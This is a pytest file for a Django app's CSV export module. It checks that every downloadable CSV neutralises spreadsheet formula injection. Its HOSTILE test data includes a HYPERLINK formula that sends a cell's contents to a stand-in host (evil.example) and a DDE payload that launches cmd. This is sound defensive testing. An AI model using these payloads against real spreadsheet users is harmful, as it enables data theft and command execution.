"""The one CSV writer (``influencer_ops.csv_export``): its cell rules, and every CSV the app lets
someone download, generated with hostile text in every field a person types (issue #14,
finding 1): no cell of any of them may start a spreadsheet formula.

The exports are found through the URL resolver (every route whose name says csv, export or
download), so a new export without a case here fails the test instead of going unchecked."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.test import TestCase
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from influencer_ops.csv_export import (
    cell,
    csv_download,
    csv_response,
    csv_text,
    neutralise,
    neutralise_csv,
)
from influencers.models import CreatorProfile
from organizations.models import Brand
from organizations.roles import Role
from payments.models import PaymentRun, PaymentSchedule, Payout
from payments.runs.schedule import schedule_for
from programs.models import Program
from tests.conftest import World, confirm_and_launch, make_payout
from tests.factories import PayoutDetailsFactory
from tracking.models import DailyClicks, MilestoneReached, TrackedLink
from tracking.reports.views import PROGRAM_TABLES

pytestmark = pytest.mark.django_db

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&F3,"x")',
    "dde": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1",
    "carriage-return": "\r=1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Routes whose name matches but that are no spreadsheet export: allauth's recovery codes (a
# text file of the user's own codes) and the CSV *imports* (uploads).
NOT_EXPORTS = {
    "mfa_download_recovery_codes",
    "api-metric-import-csv",
    "api-creator-import-csv",
    "api-order-import-csv",
    # A creator's data export: a ZIP of JSON files, no spreadsheet cells.
    "api_my_data_export",
    "portal_data_download",
}


# --- the writer's rules ---


@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
def test_text_that_starts_a_formula_gets_a_quote(value: str) -> None:
    assert neutralise(value) == f"'{value}"
    assert cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Cara Creator", "", "'=already quoted", "a=b", " =1", "12"])
def test_other_text_is_written_as_it_is(value: str) -> None:
    assert cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert cell(Decimal("-12.50")) == "-12.50"
    assert cell(Decimal("-1.25E+1")) == "-12.5"  # plain notation, never an exponent
    assert cell(-3) == -3 and cell(2.5) == 2.5
    # The same characters typed by a person are text.
    assert cell("-12.50") == "'-12.50"


def test_empty_dates_and_other_values() -> None:
    assert cell(None) == ""
    assert cell(True) == "True"
    assert cell(date(2026, 12, 6)) == "2026-12-06"
    assert cell(datetime(2026, 12, 6, 14, 5, 59, tzinfo=UTC)) == "2026-12-06 14:05"

    class Named:
        def __str__(self) -> str:
            return "=1+1"

    assert cell(Named()) == "'=1+1"


def test_a_document_with_a_negative_amount_and_a_hostile_name() -> None:
    text = csv_text(["name", "amount"], [["=1+1", Decimal("-12.50")], ["-2+3", 4]])
    assert text == "name,amount\r\n'=1+1,-12.50\r\n'-2+3,4\r\n"
    assert _cells(text) == [["name", "amount"], ["'=1+1", "-12.50"], ["'-2+3", "4"]]


def test_a_stored_document_is_neutralised_and_a_written_one_kept() -> None:
    old = 'payout_id,creator,amount\r\n1,"=HYPERLINK(""http://x/"")",-12.50\r\n2,\t=1,+3\r\n'
    assert _cells(neutralise_csv(old)) == [
        ["payout_id", "creator", "amount"],
        ["1", '\'=HYPERLINK("http://x/")', "-12.50"],
        ["2", "'\t=1", "+3"],
    ]
    hostile_rows = [[i, value, Decimal("-1.00")] for i, value in enumerate(HOSTILE.values())]
    written = csv_text(["id", "name", "amount"], hostile_rows)
    assert neutralise_csv(written) == written
    assert neutralise_csv(neutralise_csv(old)) == neutralise_csv(old)


def test_the_download_headers() -> None:
    response = csv_download("a\r\n", "program-1-funnel.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="program-1-funnel.csv"'

    class Row:
        name, amount = "@SUM(1+1)", Decimal("3.00")

    table = csv_response([Row()], [("Name", "name"), ("Amount", "amount")], "t.csv")
    assert table.content.decode() == "Name,Amount\r\n'@SUM(1+1),3.00\r\n"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- every export the app offers ---


def _route_names(patterns: list[URLPattern | URLResolver]) -> Iterator[str]:
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _route_names(pattern.url_patterns)
        elif pattern.name:
            yield pattern.name


def export_route_names() -> set[str]:
    words = ("csv", "export", "download")
    return {n for n in _route_names(get_resolver().url_patterns) if any(w in n for w in words)}


def is_plain_number(cell: str) -> bool:
    """``-12.50``: a spreadsheet reads it as a number, never as a formula."""
    body = cell[1:] if cell[:1] in "+-" else cell
    whole, _, fraction = body.partition(".")
    return whole.isascii() and whole.isdigit() and (fraction == "" or fraction.isdigit())


def rows_of(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


@pytest.fixture(params=list(HOSTILE.values()), ids=list(HOSTILE))
def hostile(request: pytest.FixtureRequest, world: World) -> tuple[World, PaymentRun, str]:
    """A launched program, a milestone and a bank-export run awaiting confirmation, with
    ``value`` in every text a person types (set directly: no form's cleaning in between)."""
    value: str = request.param
    cast = world.cast
    confirm_and_launch(world)
    MilestoneReached.objects.create(
        organization=cast.org,
        enrollment=world.enrollment,
        milestone=50,
        valid_clicks=70,
        at=timezone.now(),
    )
    today = timezone.localdate()
    link = TrackedLink.objects.filter(enrollment=world.enrollment).first() or (
        TrackedLink.objects.create(
            organization=cast.org,
            enrollment=world.enrollment,
            code="hostile",
            destination="https://example.com/",
        )
    )
    DailyClicks.objects.create(
        organization=cast.org,
        link=link,
        day=today - timedelta(days=2),
        valid=70,
        filtered=3,
    )
    for creator in (world.creator, world.other_creator):
        PayoutDetailsFactory(
            organization=cast.org,
            creator=creator,
            account_name=value,
            account_identifier=f"{value}0042"[-64:],
        )
    make_payout(world, "100.00", key="k1")
    make_payout(world, "40.50", key="k2", enrollment=world.other_enrollment)
    Brand.objects.filter(pk=cast.brand.pk).update(name=value)
    Program.objects.filter(pk=world.program.pk).update(
        name=value, launch_on=today - timedelta(days=20), end_on=today + timedelta(days=20)
    )
    CreatorProfile.objects.filter(pk__in=[world.creator.pk, world.other_creator.pk]).update(
        display_name=value
    )
    schedule = schedule_for(organization=cast.org)
    PaymentSchedule.objects.filter(pk=schedule.pk).update(
        provider="csv_export", require_readiness=False
    )
    admin = cast.client_for(Role.ADMIN)
    with TestCase.captureOnCommitCallbacks(execute=True):
        preview_url = reverse("payment_run_preview", kwargs={"org_slug": cast.org.slug})
        fingerprint = admin.get(preview_url).context["preview"].fingerprint
        admin.post(preview_url, {"fingerprint": fingerprint})
    run = PaymentRun.objects.get()
    assert run.state == PaymentRun.State.AWAITING_CONFIRMATION
    Payout.objects.filter(run=run).update(failure_reason=value)
    hostile_webhook_log(world, value)
    return world, run, value


def hostile_webhook_log(world: World, value: str) -> None:
    """A webhook endpoint whose delivery log holds ``value`` as a delivery's error."""
    from influencer_ops.events import EventType, emit
    from integrations.models import WebhookDelivery
    from integrations.webhooks.services import endpoint_create

    endpoint_create(
        organization=world.cast.org,
        actor=world.cast.members[Role.ADMIN].user,
        url="https://hooks.example.com/in",
        events=[EventType.CASE_OPENED],
    )
    emit(world.cast.org, EventType.CASE_OPENED, {"case_id": 1})
    WebhookDelivery.objects.update(error=value)


def webhook_ids(world: World) -> list[int]:
    from integrations.models import WebhookEndpoint

    return list(
        WebhookEndpoint.objects.filter(organization=world.cast.org).values_list("pk", flat=True)
    )


def export_urls(world: World, run: PaymentRun) -> dict[str, list[str]]:
    """Every export route's URLs for this world (one per program report table)."""
    slug, program = world.cast.org.slug, world.program

    def url(name: str, **kwargs: Any) -> str:
        return reverse(name, kwargs={"org_slug": slug, **kwargs})

    return {
        "program_report_csv": [
            url("program_report_csv", pk=program.pk, table=table) for table in PROGRAM_TABLES
        ],
        "org_overview_csv": [url("org_overview_csv")],
        "org_overview_sales_csv": [
            url("org_overview_sales_csv", table=table) for table in ("programs", "creators")
        ],
        "payment_run_csv": [url("payment_run_csv", pk=run.pk)],
        "payment_run_export": [url("payment_run_export", pk=run.pk)],
        "org_audit_export": [url("org_audit_export")],
        # The list tables (influencer_ops.tables): the same page with ?format=csv.
        "list_tables": [
            f"{url(name)}?format=csv" for name in ("payout_list", "creator_list", "program_list")
        ]
        + [f"{url('webhook_detail', pk=pk)}?format=csv" for pk in webhook_ids(world)],
    }


def test_every_export_route_is_known_here(world: World) -> None:
    known = set(export_urls(world, PaymentRun(pk=1))) | NOT_EXPORTS
    assert export_route_names() <= known, "a new export: add it to export_urls"


def test_no_cell_of_any_export_starts_a_formula(
    hostile: tuple[World, PaymentRun, str],
) -> None:
    world, run, value = hostile
    admin = world.cast.client_for(Role.ADMIN)
    carried = 0
    for name, urls in export_urls(world, run).items():
        for url in urls:
            response = admin.get(url)
            assert response.status_code == 200, url
            assert response["Content-Type"] == "text/csv; charset=utf-8"
            assert response["Content-Disposition"].startswith('attachment; filename="')
            rows = rows_of(response)
            assert len(rows) > 1, f"{url} exported no rows"
            for row in rows:
                for text in row:
                    safe = not text.startswith(FORMULA_STARTS) or is_plain_number(text)
                    assert safe, f"{name} ({url}) wrote a formula: {text!r}"
            # The hostile text is there, made harmless (not dropped or mangled).
            carried += sum(read == f"'{value}" for row in rows for read in row)
    assert carried > 10
